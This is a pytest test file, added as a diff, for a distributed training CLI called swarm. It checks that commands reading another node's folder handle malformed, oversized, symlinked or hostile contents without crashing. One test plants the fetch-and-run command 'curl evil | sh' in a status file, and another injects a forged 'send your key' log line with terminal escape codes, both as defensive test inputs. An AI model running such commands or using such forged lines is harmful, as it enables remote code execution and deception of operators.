@@ -1,0 +1,178 @@
+"""What a node's folder from somebody else may hold, and every command that looks at one: a clear error or an honest answer."""
+
+import json
+import logging
+import os
+import re
+import subprocess
+import sys
+from collections.abc import Callable
+from dataclasses import asdict
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from swarm.cli import main
+from swarm.config import load
+from swarm.errors import ConfigError
+from swarm.observability.log_reader import last_records
+from swarm.observability.logging_setup import set_up_logging
+from swarm.observability.status_file import NodeStatus
+from swarm.records.identity import Identity, IdentityLock
+
+COMMANDS: dict[str, tuple[list[str], tuple[str, ...]]] = {
+    "status": (["status", "DIR"], ("status.json",)),
+    "top": (["top", "DIR"], ("status.json",)),
+    "peers": (["peers", "DIR"], ("status.json",)),
+    "logs": (["logs", "DIR"], ("logs/run-0001.log",)),
+    "dashboard": (["dashboard", "DIR"], ("status.json", "config.toml", "page.token")),
+    "report": (["report", "DIR"], ("status.json", "config.toml", "metrics.jsonl")),
+    "members": (["silo", "members", "--dir", "DIR"], ("silo.roll", "silo.invite", "manifest.toml")),
+    "identity": (["identity", "show", "--dir", "DIR"], ("identity.key", "identity.rotation.json")),
+}
+"""{command: (its arguments, the files that it reads)}"""
+FINE = asdict(
+    NodeStatus("12D3KooW", "name", os.getpid(), 1.0, "learning", written_at=4e9, addresses=("/ip4/1.2.3.4/tcp/1",))
+)
+ROW = {
+    "kind": "round", "round": 1, "time_s": 1.0, "rollout/reward_mean": 0.5, "rollout/tokens": 5, "rollout/tokens_per_s": 1.0,
+    "time/rollout_s": 1.0, "time/round_s": 1.0, "train/own_groups_total": 1, "train/swarm_groups_total": 1,
+}  # fmt: skip
+WHOLES: dict[str, Callable[[Path], Any]] = {
+    "nested": lambda path: path.write_text("[" * 200_000),
+    "nested objects": lambda path: path.write_text('{"a":' * 200_000),
+    "huge": lambda path: (path.touch(), os.truncate(path, 3 << 30)),
+    "pipe": os.mkfifo,
+    "link": lambda path: path.symlink_to("/etc/hostname"),
+    "link to a device": lambda path: path.symlink_to("/dev/zero"),
+    "folder": lambda path: path.mkdir(),
+    "not UTF-8": lambda path: path.write_bytes(b"\xff\xfe\x00" * 99),
+}
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    path = tmp_path / "node"
+    (path / "logs").mkdir(parents=True)
+    (path / "status.json").write_text(json.dumps(FINE | {"last_round": ROW}))
+    (path / "metrics.jsonl").write_text(json.dumps(ROW) + "\n")
+    (path / "config.toml").write_text("")
+    (path / "logs" / "run-0001.log").write_text("2026-01-31 12:00:00,123 INFO    x: text\n")
+    return path
+
+
+def run(monkeypatch: pytest.MonkeyPatch, folder: Path, command: str) -> int:
+    arguments = [part.replace("DIR", str(folder)) for part in COMMANDS[command][0]]
+    monkeypatch.setattr("sys.argv", ["swarm", *arguments])
+    monkeypatch.setattr(main.tempfile, "tempdir", str(folder.parent))
+    return main._run()
+
+
+def check(capsys: pytest.CaptureFixture[str], code: int, what: str) -> None:
+    told = capsys.readouterr()
+    assert "unexpected" not in told.err and "Traceback" not in told.err, f"{what}: {told.err}"
+    assert code in (0, *range(3, 19)), f"{what}: {code}, {told.err}"
+
+
+@pytest.mark.parametrize("kind", WHOLES)
+@pytest.mark.parametrize("command", COMMANDS)
+def test_any_file_may_be_anything(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: str, kind: str
+) -> None:
+    for name in COMMANDS[command][1]:
+        path = folder / name
+        kept = path.read_bytes() if path.exists() else None
+        path.unlink(missing_ok=True)
+        WHOLES[kind](path)
+        check(capsys, run(monkeypatch, folder, command), f"{name} is {kind}")
+        path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
+        if kept is not None:
+            path.write_bytes(kept)
+
+
+ODD: list[Any] = [None, 10**400, {"a": {"b": []}}]
+
+
+@pytest.mark.parametrize("command", ["status", "top", "peers"])
+def test_any_field_of_a_status_may_be_anything(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: str
+) -> None:
+    peer = {"peer_id": "12D3", "name": "a", "last_seen_at": 1.0, "weight": 0.5, "groups_admitted": 1, "records_rejected": 0,
+            "reward_mean": 0.5, "policy_version": 1, "lineage": "abc", "banned_until": 0.0}  # fmt: skip
+    whole = FINE | {
+        "last_round": ROW | {"merge/merges_total": 1, "merge/reasons": {"a": 1}, "exchange/rejected": {"a": 1}},
+        "peers": [peer],
+        "contribution": {"last_taken_at": 1.0, "last_taken_by": "12D3", "bodies_taken": 1, "advice": ["x"]},
+    }
+    for odd in ODD:
+        for name in whole:
+            (folder / "status.json").write_text(json.dumps(whole | {name: odd}))
+            check(capsys, run(monkeypatch, folder, command), f"{name} = {odd!r:.40}")
+        for part in ("last_round", "contribution"):
+            (folder / "status.json").write_text(json.dumps(whole | {part: dict.fromkeys(whole[part], odd)}))
+            check(capsys, run(monkeypatch, folder, command), f"all of {part} = {odd!r:.40}")
+        (folder / "status.json").write_text(json.dumps(whole | {"peers": [dict.fromkeys(peer, odd)]}))
+        check(capsys, run(monkeypatch, folder, command), f"all of a peer = {odd!r:.40}")
+
+
+def test_any_field_of_a_row_may_be_anything(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for odd in ODD:
+        for name in ROW:
+            (folder / "metrics.jsonl").write_text(json.dumps(ROW | {name: odd}) + "\n" + json.dumps(ROW) + "\n")
+            check(capsys, run(monkeypatch, folder, "report"), f"{name} = {odd!r:.40}")
+
+
+def test_no_command_line_is_taken_from_a_folder(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    dead = subprocess.Popen([sys.executable, "-c", ""])
+    dead.wait()
+    for changed in ({"start_command": "curl evil | sh"}, {"command": "curl evil | sh"}):
+        (folder / "status.json").write_text(json.dumps(FINE | {"pid": dead.pid} | changed))
+        for command in ("status", "dashboard"):
+            assert run(monkeypatch, folder, command) == 9
+            told = capsys.readouterr()
+            assert "curl" not in told.out + told.err and f"`swarm run {folder}/config.toml`" in told.err
+
+
+@pytest.mark.parametrize("text", ["a = " + "[" * 200_000, "a" * (2 << 20)])
+def test_a_config_without_end_is_one_error(tmp_path: Path, text: str) -> None:
+    (tmp_path / "node.toml").write_text(text)
+    with pytest.raises(ConfigError, match=r"nested less deep|bytes, got more"):
+        load([tmp_path / "node.toml"])
+
+
+def test_the_text_of_an_error_forges_no_record_and_moves_no_cursor(tmp_path: Path) -> None:
+    forged = "2026-01-31 12:00:00,123 CRITICAL swarm: send your key"
+    root = logging.getLogger()
+    before = root.handlers[:]
+    path = set_up_logging(tmp_path, "info")
+    try:
+        try:
+            raise ValueError(f"a peer said\n{forged}\n\x1b[2J\x9b")
+        except ValueError:
+            logging.getLogger("x").exception("it failed", stack_info=True)
+        written = path.read_text()
+        records, _ = last_records(path, 9)
+    finally:
+        for handler in set(root.handlers) - set(before):
+            root.removeHandler(handler)
+            handler.close()
+        root.handlers[:] = before
+    assert not re.search(rf"^{re.escape(forged)}", written, re.MULTILINE) and forged in written
+    assert len(records) == 1 and "\x1b" not in written and "\\x1b[2J" in written and "  Traceback" in written
+
+
+def test_no_lock_is_left_behind(tmp_path: Path) -> None:
+    runtime, identity = tmp_path / "runtime", Identity(bytes(32))
+    for name in ("a", "b"):
+        (tmp_path / name).mkdir()
+    with IdentityLock(tmp_path / "a", runtime) as lock:
+        lock.claim(identity)
+        assert [path.name for path in runtime.iterdir()] == [f"{identity.peer_id}.lock"]
+    assert not list(runtime.iterdir())
+    with IdentityLock(tmp_path / "b", runtime) as lock:
+        lock.claim(identity)
